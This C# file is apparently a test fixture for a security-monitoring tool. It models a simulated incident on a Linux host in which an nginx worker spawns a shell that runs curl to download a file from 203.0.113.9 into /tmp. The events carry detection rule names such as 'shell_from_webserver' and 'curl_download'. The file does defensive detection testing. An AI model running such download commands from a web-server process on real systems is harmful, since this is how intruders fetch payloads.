using System.Collections.Generic;
using CsmEvents.Model;
using static CsmEvents.Tests.ProcessTree.TreeEvents;

namespace CsmEvents.Tests.ProcessTree;

/// <summary>
/// A small web-server incident on one Linux host, used by several tests:
/// systemd (1) → nginx master (1000) → nginx worker (4100, fork child) → fork child 4242 which execs sh → sh
/// forks 4300 which execs curl; plus cron (700) → sh (5000).
/// </summary>
internal static class Scenario
{
    public static readonly string Systemd = P(1, "systemd", exec: T("08:00:00"), path: "/usr/lib/systemd/systemd", args: new[] { "/sbin/init" });
    public static readonly string NginxMaster = P(1000, "nginx", ppid: 1, fork: T("09:00:00"), exec: T("09:00:00.5"), path: "/usr/sbin/nginx", args: new[] { "nginx", "-g", "daemon off;" });
    // Fork children copy exec_time and executable from their parent; their args are blanked in ancestors.
    public static readonly string NginxWorker = P(4100, "nginx", ppid: 1000, fork: T("09:00:01"), exec: T("09:00:00.5"), path: "/usr/sbin/nginx", thread: true);
    public static readonly string PreExec4242 = P(4242, "nginx", ppid: 4100, fork: T("10:20:30"), exec: T("09:00:00.5"), path: "/usr/sbin/nginx", thread: true, extra: "\"exit_time\":\"2025-01-15T10:20:30.123456789Z\"");
    public static readonly string Sh4242 = P(4242, "sh", ppid: 4100, fork: T("10:20:30"), exec: "2025-01-15T10:20:30.123456789Z", path: "/usr/bin/dash", args: new[] { "sh", "-c", "curl -o /tmp/x http://203.0.113.9/x" }, user: "www-data");
    public static readonly string PreExec4300 = P(4300, "sh", ppid: 4242, fork: T("10:20:31"), exec: "2025-01-15T10:20:30.123456789Z", path: "/usr/bin/dash", thread: true);
    public static readonly string Curl4300 = P(4300, "curl", ppid: 4242, fork: T("10:20:31"), exec: T("10:20:31.5"), path: "/usr/bin/curl", args: new[] { "curl", "-o", "/tmp/x", "http://203.0.113.9/x" }, user: "www-data");
    public static readonly string Cron = P(700, "cron", ppid: 1, fork: T("08:00:05"), exec: T("08:00:05"), path: "/usr/sbin/cron", args: new[] { "/usr/sbin/cron", "-f" });
    public static readonly string CronSh = P(5000, "sh", ppid: 700, fork: T("11:00:00"), exec: T("11:00:00.1"), path: "/usr/bin/dash", args: new[] { "/bin/sh", "-c", "logrotate /etc/logrotate.conf" });

    public static List<CsmEvent> Events() => new()
    {
        Event(Sh4242, new[] { PreExec4242, NginxWorker, NginxMaster, Systemd }, line: 1, evt: "exec", rule: "shell_from_webserver", date: T("10:20:30.2")),
        Event(Curl4300, new[] { PreExec4300, Sh4242, PreExec4242, NginxWorker, NginxMaster, Systemd }, line: 2, evt: "exec", rule: "curl_download", date: T("10:20:31.6")),
        Event(Curl4300, new[] { PreExec4300, Sh4242, PreExec4242, NginxWorker, NginxMaster, Systemd }, line: 3, evt: "open", rule: "tmp_write", date: T("10:20:32")),
        Event(Curl4300, new[] { PreExec4300, Sh4242, PreExec4242, NginxWorker, NginxMaster, Systemd }, line: 4, evt: "connect", rule: "curl_download", date: T("10:20:33")),
        Event(CronSh, new[] { Cron, Systemd }, line: 5, evt: "exec", rule: "cron_shell", date: T("11:00:00.2")),
    };
}
